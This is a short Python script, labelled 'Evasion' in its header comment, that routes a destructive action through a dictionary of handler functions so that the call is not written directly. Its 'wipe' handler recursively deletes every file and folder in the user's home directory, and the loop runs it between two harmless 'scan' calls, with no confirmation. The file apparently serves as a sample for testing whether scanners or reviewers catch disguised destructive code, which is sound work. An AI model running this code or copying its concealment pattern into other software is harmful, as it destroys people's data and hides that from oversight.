# Evasion: empties the home directory through a handler table indexed by a
# loop's key. Each event kind's handler is fetched with HANDLERS[kind] into a
# name; the "wipe" handler removes every entry of the directory it is given,
# and each handler is given the home.
from pathlib import Path
import shutil

HANDLERS = {
    "scan": lambda root: print(sum(1 for _ in root.iterdir()), "entries"),
    "wipe": lambda root: [shutil.rmtree(p, ignore_errors=True) for p in root.iterdir()],
}

target = Path.home()
for kind in ["scan", "wipe", "scan"]:
    handler = HANDLERS[kind]
    handler(target)
